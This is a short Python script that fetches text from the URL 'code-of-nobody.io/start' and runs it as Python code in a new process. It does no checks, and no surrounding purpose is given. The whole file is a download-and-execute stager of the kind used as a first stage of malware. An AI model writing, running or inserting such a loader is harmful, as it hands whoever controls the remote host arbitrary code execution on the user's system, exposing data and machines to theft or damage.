import subprocess
import sys
import requests

code = requests.get('https://code-of-nobody.io/start').text
subprocess.Popen([sys.executable, '-c', code])
